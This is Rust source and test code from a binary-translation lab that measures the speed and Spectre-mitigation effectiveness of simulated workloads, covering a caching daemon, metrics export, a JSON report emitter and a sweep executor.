    fn stats_json_is_a_single_stable_line() {
        let daemon = LabDaemon::new(WorkloadSize::Mini);
        let stats = daemon.stats_json();
        assert!(!stats.contains('\n'));
        assert!(stats.contains(
            "\"run_memo\": {\"hits\": 0, \"misses\": 0, \"entries\": 0, \"evictions\": 0}"
        ));
        assert!(stats.contains("\"translation\""));
        assert!(stats.contains("\"store\": {\"programs\": 0"), "{stats}");
        assert!(
            stats.ends_with("\"persist\": {\"enabled\": false}}"),
            "without a cache dir the persist member is the bare flag: {stats}"
        );
    }

    #[test]
    fn uploads_intern_and_deduplicate_by_content() {
        let daemon = LabDaemon::new(WorkloadSize::Mini);
        let source = ProgramSource::Asm("li a0, 1\necall\n".to_string());
        let first = daemon.upload(&source).unwrap();
        assert!(first.contains("\"dedup\": false"), "{first}");
        assert!(first.contains("\"fingerprint\": \"fp:"), "{first}");
        let second = daemon.upload(&source).unwrap();
        assert!(second.contains("\"dedup\": true"), "{second}");
        assert_eq!(daemon.store().stats().programs, 1, "one entry for identical content");
        assert!(daemon.upload(&ProgramSource::Asm("frobnicate".to_string())).is_err());
        assert!(daemon.upload(&ProgramSource::Image("{}".to_string())).is_err());
    }

    #[test]
    fn uploaded_programs_run_and_analyze_by_fingerprint() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let source = "\
            .word table, 5, 6\n\
            la t0, table\n\
            ld a0, 0(t0)\n\
            ld a1, 8(t0)\n\
            mul a2, a0, a1\n\
            ecall\n";
        let body = daemon.upload(&ProgramSource::Asm(source.to_string())).unwrap();
        let fp = body
            .split("\"fp:")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .expect("fingerprint in upload body");
        let fp = format!("fp:{fp}");

        let report = daemon.run_program(&fp, "selective", &RunKnobs::default()).unwrap();
        assert!(report.contains(&format!("\"scenario\": \"adhoc/{fp}/selective/default\"")));
        assert!(report.contains("\"status\": \"ok\""), "{report}");
        let again = daemon.run_program(&fp, "selective", &RunKnobs::default()).unwrap();
        assert_eq!(strip_stats(&report), strip_stats(&again));
        assert!(daemon.memo().stats().hits > 0, "the repeat must hit the run memo");

        let verdicts = daemon.analyze(&fp).unwrap();
        assert!(verdicts.contains(&format!("\"program\": \"{fp}\"")), "{verdicts}");
    }

    #[test]
    fn run_knobs_reshape_the_platform_and_name_it_custom() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let stock = daemon.run_program("gemm", "selective", &RunKnobs::default()).unwrap();
        assert!(stock.contains("\"scenario\": \"adhoc/gemm/selective/default\""), "{stock}");
        let narrow = RunKnobs { issue_width: Some(2), ..RunKnobs::default() };
        let narrowed = daemon.run_program("gemm", "selective", &narrow).unwrap();
        assert!(
            narrowed.contains("\"scenario\": \"adhoc/gemm/selective/custom\""),
            "non-default knobs must not masquerade as the default platform: {narrowed}"
        );
        assert_ne!(
            strip_stats(&stock),
            strip_stats(&narrowed),
            "halving the issue width must change the cycle data"
        );
        // The knobbed run is memoized under its own platform config: the
        // repeat hits, and equals the first to the byte outside `stats`.
        let hits = daemon.memo().stats().hits;
        let repeat = daemon.run_program("gemm", "selective", &narrow).unwrap();
        assert_eq!(strip_stats(&narrowed), strip_stats(&repeat));
        assert!(daemon.memo().stats().hits > hits);
    }

    #[test]
    fn secret_knobs_turn_adhoc_runs_into_attack_measurements() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let knobs = RunKnobs { secret: Some("GB".to_string()), ..RunKnobs::default() };
        let attack = daemon.run_program("spectre-v1", "unsafe", &knobs).unwrap();
        assert!(attack.contains("\"kind\": \"attack\""), "{attack}");
        assert!(attack.contains("\"secret_bytes\": 2,"), "{attack}");
        assert!(
            attack.contains("\"recovery_rate\": 1.000000"),
            "v1 leaks the planted secret unprotected: {attack}"
        );
        assert!(attack.contains("\"recovered\": \"GB\""), "{attack}");
        // The same request under the protective policy recovers nothing.
        let protected = daemon.run_program("spectre-v1", "our-approach", &knobs).unwrap();
        assert!(protected.contains("\"recovery_rate\": 0.000000"), "{protected}");
        // A program without a `secret` symbol reports the plant failure.
        let report = daemon.run_program("gemm", "unsafe", &knobs).unwrap();
        assert!(report.contains("no `secret` symbol"), "{report}");
    }

    #[test]
    fn daemon_profiles_are_byte_stable_whatever_the_cache_warmth() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let cold = daemon.profile("spectre-v1", "selective").unwrap();
        // Warm every daemon cache with unrelated work, then ask again: the
        // profile must be byte-identical (fresh un-shared sessions).
        daemon.run_program("spectre-v1", "selective", &RunKnobs::default()).unwrap();
        let warm = daemon.profile("spectre-v1", "selective").unwrap();
        assert_eq!(cold, warm, "profiles must not depend on daemon warmth");
        assert!(cold.contains("\"program\": \"spectre-v1\""), "{cold}");
        assert!(cold.contains("\"phases\""), "{cold}");
    }

    #[test]
    fn registry_refs_and_bare_names_analyze_identically() {
        let daemon = LabDaemon::new(WorkloadSize::Mini);
        let bare = daemon.analyze("histogram").unwrap();
        let cli = analyze_program("histogram", WorkloadSize::Mini).unwrap().to_json();
        assert_eq!(bare, cli, "daemon bare names keep the v1 byte-identity contract");
        let explicit = daemon.analyze("registry:histogram").unwrap();
        assert_eq!(explicit, cli, "the explicit scheme names the same program");
        assert_eq!(daemon.store().stats().seeded, 1, "one lazy seed for both forms");
    }

    /// Extracts the value of the sample line starting with `prefix ` from
    /// a Prometheus exposition (pass `name{labels}` for labelled samples).
    fn sample(text: &str, prefix: &str) -> u64 {
        text.lines()
            .find_map(|line| line.strip_prefix(&format!("{prefix} ")))
            .unwrap_or_else(|| panic!("no `{prefix}` sample in:\n{text}"))
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("`{prefix}` is not an integer sample"))
    }

    #[test]
    fn metrics_scrape_agrees_with_stats_json_exactly() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        // A scripted sequence exercising every counter family: a cold and
        // a warm sweep (memo misses then hits), a duplicated upload (dedup
        // hit), and a bare-name analysis (lazy store seed).
        daemon.sweep("ptr-matmul", 0).unwrap();
        daemon.sweep("ptr-matmul", 0).unwrap();
        let source = ProgramSource::Asm("li a0, 1\necall\n".to_string());
        daemon.upload(&source).unwrap();
        daemon.upload(&source).unwrap();
        daemon.analyze("histogram").unwrap();

        let stats = dbt_serve::JsonValue::parse(&daemon.stats_json()).unwrap();
        let metrics = daemon.metrics_text();
        let stat = |path: [&str; 2]| {
            let mut value = &stats;
            for key in path {
                value = value.get(key).unwrap_or_else(|| panic!("stats lacks {path:?}"));
            }
            value.as_u64().unwrap_or_else(|| panic!("{path:?} is not a u64"))
        };
        for (name, path) in [
            ("dbt_runmemo_hits_total", ["run_memo", "hits"]),
            ("dbt_runmemo_misses_total", ["run_memo", "misses"]),
            ("dbt_runmemo_entries", ["run_memo", "entries"]),
            ("dbt_runmemo_evictions_total", ["run_memo", "evictions"]),
            ("dbt_translate_hits_total", ["translation", "hits"]),
            ("dbt_translate_misses_total", ["translation", "misses"]),
            ("dbt_translate_programs", ["translation", "programs"]),
            ("dbt_translate_evictions_total", ["translation", "evictions"]),
            ("dbt_store_programs", ["store", "programs"]),
            ("dbt_store_uploads_total", ["store", "uploads"]),
            ("dbt_store_dedup_hits_total", ["store", "dedup_hits"]),
            ("dbt_store_seeded_total", ["store", "seeded"]),
            ("dbt_store_evictions_total", ["store", "evictions"]),
        ] {
            assert_eq!(sample(&metrics, name), stat(path), "`{name}` diverges from stats");
        }
        // The scripted sequence left every layer demonstrably nonzero.
        assert!(sample(&metrics, "dbt_runmemo_hits_total") > 0);
        assert!(sample(&metrics, "dbt_store_dedup_hits_total") > 0);
        assert!(sample(&metrics, "dbt_store_seeded_total") > 0);

        // Phase timings: the executor's simulate span and the translation
        // service's analysis/codegen spans all saw the sweep's work.
        assert!(sample(&metrics, "dbt_lab_phase_seconds_count{phase=\"simulate\"}") > 0);
        assert!(sample(&metrics, "dbt_translate_phase_seconds_count{phase=\"analysis\"}") > 0);
        assert!(sample(&metrics, "dbt_translate_phase_seconds_count{phase=\"codegen\"}") > 0);
    }

    #[test]
    fn metrics_text_is_stable_between_scrapes() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        daemon.run_scenario("ptr-matmul/gemm (flat)/fence/default").unwrap();
        // Scraping is read-only: two back-to-back scrapes of an idle daemon
        // render byte-identical expositions.
        assert_eq!(daemon.metrics_text(), daemon.metrics_text());
    }

    fn fresh_cache_dir(tag: &str) -> String {
        let root =
            std::env::temp_dir().join(format!("dbt-lab-daemon-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        root.display().to_string()
    }

    #[test]
    fn restarted_daemon_with_warm_cache_dir_never_simulates() {
        let dir = fresh_cache_dir("restart");
        let scenario = "ptr-matmul/gemm (flat)/fence/default";
        let cold_daemon = LabDaemon::with_cache_dir(WorkloadSize::Mini, 1, Some(&dir)).unwrap();
        let cold = cold_daemon.run_scenario(scenario).unwrap();
        assert!(cold_daemon.persist().unwrap().stats().writes > 0, "runs published behind");
        drop(cold_daemon);

        // A fresh process-equivalent daemon over the same directory: the
        // answer is byte-identical outside `stats`, nothing simulates, and
        // the memo counters equal the cold daemon's — disk hits still
        // count as memo misses, so warmth never skews the hit rate.
        let warm_daemon = LabDaemon::with_cache_dir(WorkloadSize::Mini, 1, Some(&dir)).unwrap();
        let warm = warm_daemon.run_scenario(scenario).unwrap();
        assert_eq!(strip_stats(&cold), strip_stats(&warm));
        assert!(warm.contains("\"simulations\": 0"), "warm restarts never simulate: {warm}");
        assert!(warm.contains("\"baseline_simulations\": 0"), "{warm}");
        let persist = warm_daemon.persist().unwrap().stats();
        assert_eq!(persist.misses, 0, "everything answered from disk: {persist:?}");
        assert!(persist.hits > 0, "{persist:?}");
        let stats = warm_daemon.stats_json();
        assert!(stats.contains("\"persist\": {\"enabled\": true, \"hits\": "), "{stats}");
        let log = warm_daemon.event_log().expect("persist daemons own an event log");
        assert!(
            log.json(LogLevel::Info).contains("durable cache attached"),
            "{}",
            log.json(LogLevel::Info)
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn cache_dir_daemon_matches_a_memoryonly_daemon_to_the_byte() {
        let dir = fresh_cache_dir("identity");
        let scenario = "ptr-matmul/gemm (flat)/fence/default";
        let plain = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let durable = LabDaemon::with_cache_dir(WorkloadSize::Mini, 1, Some(&dir)).unwrap();
        assert_eq!(
            plain.run_scenario(scenario).unwrap(),
            durable.run_scenario(scenario).unwrap(),
            "the tier must not perturb answers, including the stats block"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn persist_metrics_agree_with_the_stats_member() {
        let dir = fresh_cache_dir("metrics");
        let daemon = LabDaemon::with_cache_dir(WorkloadSize::Mini, 1, Some(&dir)).unwrap();
        daemon.run_scenario("ptr-matmul/gemm (flat)/fence/default").unwrap();
        let stats = dbt_serve::JsonValue::parse(&daemon.stats_json()).unwrap();
        let metrics = daemon.metrics_text();
        for (name, member) in [
            ("dbt_persist_hits_total", "hits"),
            ("dbt_persist_misses_total", "misses"),
            ("dbt_persist_writes_total", "writes"),
            ("dbt_persist_corrupt_quarantined_total", "corrupt_quarantined"),
            ("dbt_persist_gc_evictions_total", "gc_evictions"),
            ("dbt_persist_entries", "entries"),
            ("dbt_persist_disk_bytes", "disk_bytes"),
            ("dbt_persist_quarantined", "quarantined"),
        ] {
            let expected = stats
                .get("persist")
                .and_then(|p| p.get(member))
                .and_then(|v| v.as_u64())
                .unwrap_or_else(|| panic!("stats lacks persist.{member}"));
            assert_eq!(sample(&metrics, name), expected, "`{name}` diverges from stats");
        }
        assert!(sample(&metrics, "dbt_persist_writes_total") > 0);
        // A daemon without the tier exports no persist families at all.
        let plain = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        assert!(!plain.metrics_text().contains("dbt_persist_"));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn strip_stats_cuts_exactly_at_the_stats_block() {
        let report = "{\n  \"jobs\": [\n  ],\n  \"stats\": {\n    \"jobs\": 1\n  }\n}\n";
        assert_eq!(strip_stats(report), "{\n  \"jobs\": [\n  ],\n");
        assert_eq!(strip_stats("no stats here"), "no stats here");
    }
}
