//! The lab's [`LabBackend`] implementation: what `lab serve` actually runs.
//!
//! One [`LabDaemon`] owns the two process-wide cache levels every request
//! amortizes:
//!
//! * a single shared [`TranslationService`] — every session of every
//!   request resolves its compiles through one memo, so a client fleet
//!   pays each distinct translation once per daemon lifetime, not once
//!   per request;
//! * a single content-addressed [`RunMemo`] — whole run summaries keyed by
//!   `(program fingerprint, platform-config fingerprint)`, so a repeated
//!   identical scenario skips the simulation entirely.
//!
//! Responses reuse the lab's byte-stable emitters verbatim: the body of a
//! daemon answer for a *cold* cache is byte-identical — including the
//! `stats` block — to what the `lab` CLI prints locally, and stays
//! byte-identical in all cycle data once the caches are warm (only the
//! warmth-dependent counters in `stats` shrink; [`strip_stats`] cuts the
//! report at that block for comparisons).

use crate::analyze::analyze_program;
use crate::exec::{run_sweep_memo, ExecOptions};
use crate::registry::Registry;
use dbt_platform::{RunMemo, TranslationService};
use dbt_serve::LabBackend;
use dbt_workloads::WorkloadSize;
use std::sync::Arc;

/// Cuts a lab report JSON at its `stats` block.
///
/// Cycle counts, slowdowns and recovery rates are pure functions of the
/// scenario; the executor counters (`simulations`, translation hits and
/// misses) also depend on how warm the daemon's caches were when the
/// request arrived. Comparisons across cache states therefore strip the
/// `stats` block — exactly like the CI sweep-determinism check — and
/// require byte-identity on everything before it.
pub fn strip_stats(report_json: &str) -> String {
    match report_json.find("  \"stats\": {") {
        Some(index) => report_json[..index].to_string(),
        None => report_json.to_string(),
    }
}

/// The daemon state behind `lab serve`.
#[derive(Debug)]
pub struct LabDaemon {
    registry: Registry,
    size: WorkloadSize,
    default_threads: usize,
    service: Arc<TranslationService>,
    memo: Arc<RunMemo>,
}

impl LabDaemon {
    /// A daemon over the standard registry at `size`, with auto-sized
    /// sweep executors (one thread per CPU).
    pub fn new(size: WorkloadSize) -> LabDaemon {
        LabDaemon::with_threads(size, 0)
    }

    /// A daemon whose sweep executors default to `default_threads` worker
    /// threads (`0` = one per CPU); a request's `threads` member overrides
    /// it per sweep.
    pub fn with_threads(size: WorkloadSize, default_threads: usize) -> LabDaemon {
        LabDaemon {
            registry: Registry::standard(size),
            size,
            default_threads,
            service: TranslationService::new(),
            memo: RunMemo::new(),
        }
    }

    /// The process-wide translation service all requests share.
    pub fn service(&self) -> &Arc<TranslationService> {
        &self.service
    }

    /// The content-addressed run-summary memo all requests share.
    pub fn memo(&self) -> &Arc<RunMemo> {
        &self.memo
    }

    fn exec_opts(&self, threads: usize) -> ExecOptions {
        ExecOptions {
            threads: if threads == 0 { self.default_threads } else { threads },
            verbose: false,
        }
    }
}

impl LabBackend for LabDaemon {
    fn run_scenario(&self, scenario: &str) -> Result<String, String> {
        let found = self
            .registry
            .find_scenario(scenario)
            .ok_or_else(|| format!("unknown scenario `{scenario}` (see `lab list`)"))?;
        let report = run_sweep_memo(
            scenario,
            std::slice::from_ref(&found),
            ExecOptions { threads: 1, verbose: false },
            &self.service,
            Some(&self.memo),
        );
        Ok(report.to_json())
    }

    fn sweep(&self, name: &str, threads: usize) -> Result<String, String> {
        let sweep = self.registry.find(name).ok_or_else(|| format!("unknown sweep `{name}`"))?;
        let report = run_sweep_memo(
            &sweep.name,
            &sweep.expand(),
            self.exec_opts(threads),
            &self.service,
            Some(&self.memo),
        );
        Ok(report.to_json())
    }

    fn analyze(&self, program: &str) -> Result<String, String> {
        analyze_program(program, self.size).map(|report| report.to_json())
    }

    fn stats_json(&self) -> String {
        let memo = self.memo.stats();
        let service = self.service.stats();
        format!(
            "{{\"run_memo\": {}, \"translation\": {{\"hits\": {}, \"misses\": {}, \
             \"programs\": {}, \"evictions\": {}}}}}",
            memo.to_json(),
            service.hits,
            service.misses,
            service.programs,
            service.evictions
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exec::run_sweep;

    #[test]
    fn cold_daemon_sweep_is_byte_identical_to_a_fresh_lab_sweep() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let cold = daemon.sweep("ptr-matmul", 0).unwrap();
        let registry = Registry::standard(WorkloadSize::Mini);
        let sweep = registry.find("ptr-matmul").unwrap();
        let fresh =
            run_sweep(&sweep.name, &sweep.expand(), ExecOptions { threads: 1, verbose: false });
        assert_eq!(cold, fresh.to_json(), "a cold daemon matches the CLI to the byte");
    }

    #[test]
    fn warm_daemon_sweeps_keep_cycle_data_identical() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let cold = daemon.sweep("ptr-matmul", 0).unwrap();
        let warm = daemon.sweep("ptr-matmul", 0).unwrap();
        assert_eq!(strip_stats(&cold), strip_stats(&warm));
        assert_ne!(cold, warm, "the stats block records the cache warmth");
        assert!(warm.contains("\"simulations\": 0"), "warm sweeps never simulate: {warm}");
        assert!(
            warm.contains("\"baseline_simulations\": 0"),
            "memo hits must not count as baseline simulations either: {warm}"
        );
        let memo = daemon.memo().stats();
        assert!(memo.hits > 0, "{memo:?}");
    }

    #[test]
    fn run_requests_share_the_memo_with_sweeps() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let first = daemon.run_scenario("ptr-matmul/gemm (flat)/fence/default").unwrap();
        let again = daemon.run_scenario("ptr-matmul/gemm (flat)/fence/default").unwrap();
        assert_eq!(strip_stats(&first), strip_stats(&again));
        let stats = daemon.memo().stats();
        assert_eq!(stats.misses, 2, "baseline + fence run, simulated once each");
        assert_eq!(stats.hits, 2, "the repeat answered both from the memo");
        // The sweep containing that scenario now partially hits too.
        let sweep = daemon.sweep("ptr-matmul", 0).unwrap();
        assert!(!sweep.is_empty());
        assert!(daemon.memo().stats().hits > stats.hits);
    }

    #[test]
    fn unknown_names_are_reported_not_panicked() {
        let daemon = LabDaemon::new(WorkloadSize::Mini);
        assert!(daemon.run_scenario("no/such/scenario").is_err());
        assert!(daemon.sweep("no-such-sweep", 0).is_err());
        assert!(daemon.analyze("no-such-program").is_err());
    }

    #[test]
    fn stats_json_is_a_single_stable_line() {
        let daemon = LabDaemon::new(WorkloadSize::Mini);
        let stats = daemon.stats_json();
        assert!(!stats.contains('\n'));
        assert!(stats.contains("\"run_memo\": {\"hits\": 0, \"misses\": 0, \"entries\": 0}"));
        assert!(stats.contains("\"translation\""));
    }

    #[test]
    fn strip_stats_cuts_exactly_at_the_stats_block() {
        let report = "{\n  \"jobs\": [\n  ],\n  \"stats\": {\n    \"jobs\": 1\n  }\n}\n";
        assert_eq!(strip_stats(report), "{\n  \"jobs\": [\n  ],\n");
        assert_eq!(strip_stats("no stats here"), "no stats here");
    }
}
