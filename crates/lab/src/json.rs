//! Hand-rolled, dependency-free JSON emission for [`LabReport`].
//!
//! The encoding is deliberately boring: fixed key order, two-space
//! indentation, floats printed with six fractional digits. Two runs of the
//! same sweep therefore produce byte-identical files, so `BENCH_<sweep>.json`
//! artifacts can be diffed across PRs.

use crate::exec::{JobOutcome, JobResult, LabReport};

/// Escapes `s` for use inside a JSON string literal.
///
/// Delegates to `dbt-serve`'s escaper so the whole workspace shares one
/// set of escaping rules — the daemon's byte-identity contract (unescaped
/// frame bodies == locally emitted reports) depends on the emitters and
/// the protocol never diverging here.
pub fn escape(s: &str) -> String {
    dbt_serve::json::escape(s)
}

/// Formats a float deterministically (fixed six fractional digits).
pub fn number(x: f64) -> String {
    if x.is_finite() {
        format!("{x:.6}")
    } else {
        // JSON has no Inf/NaN; encode as null.
        "null".to_string()
    }
}

fn push_job(out: &mut String, result: &JobResult) {
    let s = &result.scenario;
    out.push_str("    {\n");
    out.push_str(&format!("      \"scenario\": \"{}\",\n", escape(&s.name)));
    out.push_str(&format!("      \"program\": \"{}\",\n", escape(&s.program_label)));
    out.push_str(&format!("      \"policy\": \"{}\",\n", s.policy.label()));
    out.push_str(&format!("      \"platform\": \"{}\",\n", escape(&s.platform.name)));
    out.push_str(&format!("      \"kind\": \"{}\",\n", s.kind.label()));
    match &result.outcome {
        JobOutcome::Perf(m) => {
            out.push_str("      \"status\": \"ok\",\n");
            out.push_str(&format!("      \"cycles\": {},\n", m.cycles));
            out.push_str(&format!("      \"baseline_cycles\": {},\n", m.baseline_cycles));
            out.push_str(&format!("      \"slowdown\": {},\n", number(m.slowdown())));
            out.push_str(&format!("      \"rollbacks\": {},\n", m.rollbacks));
            out.push_str(&format!("      \"guest_insts\": {},\n", m.guest_insts));
            out.push_str(&format!("      \"patterns\": {}\n", m.patterns));
        }
        JobOutcome::Attack(m) => {
            out.push_str("      \"status\": \"ok\",\n");
            out.push_str(&format!("      \"cycles\": {},\n", m.cycles));
            out.push_str(&format!("      \"secret_bytes\": {},\n", m.secret.len()));
            out.push_str(&format!("      \"correct_bytes\": {},\n", m.correct_bytes()));
            out.push_str(&format!("      \"recovery_rate\": {},\n", number(m.recovery_rate())));
            out.push_str(&format!(
                "      \"recovered\": \"{}\",\n",
                escape(&String::from_utf8_lossy(&m.recovered))
            ));
            out.push_str(&format!("      \"rollbacks\": {},\n", m.rollbacks));
            out.push_str(&format!("      \"patterns\": {}\n", m.patterns));
        }
        JobOutcome::Failed { error } => {
            out.push_str("      \"status\": \"failed\",\n");
            out.push_str(&format!("      \"error\": \"{}\"\n", escape(error)));
        }
    }
    out.push_str("    }");
}

impl LabReport {
    /// Serialises the report; same report ⇒ byte-identical output.
    pub fn to_json(&self) -> String {
        let mut out = String::new();
        out.push_str("{\n");
        out.push_str("  \"schema\": \"dbt-lab/v1\",\n");
        out.push_str(&format!("  \"sweep\": \"{}\",\n", escape(&self.sweep)));
        out.push_str("  \"jobs\": [\n");
        for (i, result) in self.results.iter().enumerate() {
            push_job(&mut out, result);
            out.push_str(if i + 1 < self.results.len() { ",\n" } else { "\n" });
        }
        out.push_str("  ],\n");
        out.push_str("  \"stats\": {\n");
        out.push_str(&format!("    \"jobs\": {},\n", self.stats.jobs));
        out.push_str(&format!("    \"simulations\": {},\n", self.stats.simulations));
        out.push_str(&format!(
            "    \"baseline_simulations\": {},\n",
            self.stats.baseline_simulations
        ));
        out.push_str(&format!("    \"translation_hits\": {},\n", self.stats.translation_hits));
        out.push_str(&format!("    \"translation_misses\": {}\n", self.stats.translation_misses));
        out.push_str("  }\n");
        out.push_str("}\n");
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exec::{ExecStats, PerfMetrics};
    use crate::scenario::{PlatformVariant, ProgramSpec, Scenario, ScenarioKind};
    use dbt_workloads::WorkloadSize;
    use ghostbusters::MitigationPolicy;

    #[test]
    fn escaping_covers_quotes_and_control_characters() {
        assert_eq!(escape("a\"b\\c"), "a\\\"b\\\\c");
        assert_eq!(escape("line\nbreak\ttab"), "line\\nbreak\\ttab");
        assert_eq!(escape("\u{1}"), "\\u0001");
    }

    #[test]
    fn numbers_are_fixed_precision_and_total() {
        assert_eq!(number(1.0), "1.000000");
        assert_eq!(number(1.0 / 3.0), "0.333333");
        assert_eq!(number(f64::NAN), "null");
        assert_eq!(number(f64::INFINITY), "null");
    }

    #[test]
    fn report_serialisation_is_stable_and_wellformed() {
        let scenario = Scenario {
            name: "t/gemm/unsafe/default".into(),
            program_label: "gemm".into(),
            program: ProgramSpec::Workload { name: "gemm", size: WorkloadSize::Mini },
            policy: MitigationPolicy::Unprotected,
            platform: PlatformVariant::default_platform(),
            kind: ScenarioKind::Perf,
        };
        let report = LabReport {
            sweep: "t".into(),
            results: vec![JobResult {
                scenario,
                outcome: JobOutcome::Perf(PerfMetrics {
                    cycles: 100,
                    baseline_cycles: 100,
                    rollbacks: 0,
                    guest_insts: 42,
                    patterns: 0,
                }),
            }],
            stats: ExecStats {
                jobs: 1,
                simulations: 1,
                baseline_simulations: 1,
                translation_hits: 3,
                translation_misses: 2,
            },
        };
        let a = report.to_json();
        let b = report.to_json();
        assert_eq!(a, b);
        assert!(a.contains("\"slowdown\": 1.000000"));
        assert!(a.contains("\"schema\": \"dbt-lab/v1\""));
        assert!(a.contains("\"translation_hits\": 3"));
        assert!(a.contains("\"translation_misses\": 2"));
        assert!(a.ends_with("}\n"));
    }
}
