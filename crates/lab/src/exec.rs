//! The parallel sweep executor.
//!
//! Jobs are pulled from a shared queue by `std::thread::scope` workers;
//! results land in the slot of their job index, so the report order is the
//! expansion order regardless of which worker finished first.
//!
//! Redundant work is deduplicated at two levels through a sweep-wide
//! shared context:
//!
//! * **runs** — unprotected baseline runs are memoized per
//!   `(program, platform)`, so each workload's baseline is simulated
//!   exactly once per sweep, not once per comparison;
//! * **translations** — every session of the sweep shares one
//!   [`TranslationService`], so each distinct translation (per program,
//!   path, speculation options, policy and issue width) is compiled
//!   exactly once per sweep regardless of how many jobs and threads demand
//!   it. The service's hit/miss counters land in [`ExecStats`] (and hence
//!   in the sweep JSON), so the reuse is visible in the artifacts.

use crate::scenario::{Scenario, ScenarioKind};
use dbt_obs::{
    Histogram, MetricsRegistry, Span, StageSpan, TraceHandle, DEFAULT_LATENCY_BOUNDS_MICROS,
};
use dbt_platform::{CachedRun, RunKey, RunMemo, Session, TranslationService};
use ghostbusters::MitigationPolicy;
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};

/// Metric family of the executor's wall-clock phase timings, labelled by
/// `phase` (currently just `simulate`; the translation phases live under
/// `dbt_translate_phase_seconds` in `dbt-engine`). Wall-clock only — no
/// cycle count or any other deterministic observable depends on it.
pub const LAB_PHASE_FAMILY: &str = "dbt_lab_phase_seconds";

/// Executor knobs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ExecOptions {
    /// Number of worker threads; `0` means one per available CPU.
    pub threads: usize,
    /// Print one line per finished job to stderr.
    pub verbose: bool,
}

impl ExecOptions {
    /// Resolves `threads == 0` to the machine's parallelism, capped by the
    /// number of jobs (never below 1). Auto mode uses at least two workers
    /// when there is more than one job, so the parallel path (work queue,
    /// baseline-cache contention) is exercised even on single-CPU machines;
    /// output is deterministic either way.
    pub fn effective_threads(&self, jobs: usize) -> usize {
        let auto = std::thread::available_parallelism()
            .map(std::num::NonZeroUsize::get)
            .unwrap_or(1)
            .max(2);
        let t = if self.threads == 0 { auto } else { self.threads };
        t.min(jobs).max(1)
    }
}

/// Measurements of a [`ScenarioKind::Perf`] job.
#[derive(Debug, Clone, PartialEq)]
pub struct PerfMetrics {
    /// Cycles under the scenario's policy.
    pub cycles: u64,
    /// Cycles of the unprotected baseline on the same program and platform.
    pub baseline_cycles: u64,
    /// MCB rollbacks under the scenario's policy.
    pub rollbacks: u64,
    /// Guest instructions retired.
    pub guest_insts: u64,
    /// Spectre patterns detected by the analysis.
    pub patterns: usize,
}

impl PerfMetrics {
    /// Relative execution time (1.0 = baseline speed).
    pub fn slowdown(&self) -> f64 {
        self.cycles as f64 / self.baseline_cycles.max(1) as f64
    }
}

/// Measurements of a [`ScenarioKind::Attack`] job.
#[derive(Debug, Clone, PartialEq)]
pub struct AttackMetrics {
    /// The planted secret.
    pub secret: Vec<u8>,
    /// What the attacker read back through the side channel.
    pub recovered: Vec<u8>,
    /// Total cycles of the run.
    pub cycles: u64,
    /// MCB rollbacks.
    pub rollbacks: u64,
    /// Spectre patterns detected by the analysis.
    pub patterns: usize,
}

impl AttackMetrics {
    /// Number of secret bytes recovered correctly.
    pub fn correct_bytes(&self) -> usize {
        self.secret.iter().zip(&self.recovered).filter(|(a, b)| a == b).count()
    }

    /// Fraction of the secret recovered, in `[0, 1]`.
    pub fn recovery_rate(&self) -> f64 {
        if self.secret.is_empty() {
            0.0
        } else {
            self.correct_bytes() as f64 / self.secret.len() as f64
        }
    }
}

/// What one job produced.
#[derive(Debug, Clone, PartialEq)]
pub enum JobOutcome {
    /// Performance measurements.
    Perf(PerfMetrics),
    /// Attack measurements.
    Attack(AttackMetrics),
    /// The job failed (build error, platform fault, budget exhaustion).
    Failed {
        /// Human-readable cause.
        error: String,
    },
}

/// One finished job.
#[derive(Debug, Clone, PartialEq)]
pub struct JobResult {
    /// The scenario that was run.
    pub scenario: Scenario,
    /// What it produced.
    pub outcome: JobOutcome,
}

/// Executor counters (all deterministic for a given job list).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ExecStats {
    /// Number of jobs run.
    pub jobs: usize,
    /// Total simulations, including deduplicated baselines.
    pub simulations: usize,
    /// Unprotected baseline simulations (one per distinct
    /// `(program, platform)` pair among the perf jobs).
    pub baseline_simulations: usize,
    /// Translation events of this sweep's sessions answered from the
    /// shared [`TranslationService`] memo.
    pub translation_hits: u64,
    /// Translation events that compiled — one per distinct translated
    /// block, however many jobs and threads demanded it.
    pub translation_misses: u64,
}

/// The ordered results of one sweep.
#[derive(Debug, Clone, PartialEq)]
pub struct LabReport {
    /// Name of the sweep that was run.
    pub sweep: String,
    /// One result per job, in expansion order (independent of completion
    /// order and worker count).
    pub results: Vec<JobResult>,
    /// Executor counters.
    pub stats: ExecStats,
}

/// One run-cache entry: filled exactly once, shared between waiting
/// workers.
type BaselineSlot = Arc<OnceLock<Result<CachedRun, String>>>;

/// Shared state of one sweep: the translation service every session of the
/// sweep attaches to, the memoized unprotected baseline runs (the historic
/// standalone `BaselineCache`, folded in here), an optional cross-sweep
/// [`RunMemo`] (the daemon's content-addressed run-summary cache), and the
/// simulation counters.
///
/// All memo levels are exactly-once under concurrency: late askers block
/// on the winner's `OnceLock`, so the counters are deterministic for a
/// given job list regardless of worker count.
struct SweepContext {
    service: Arc<TranslationService>,
    memo: Option<Arc<RunMemo>>,
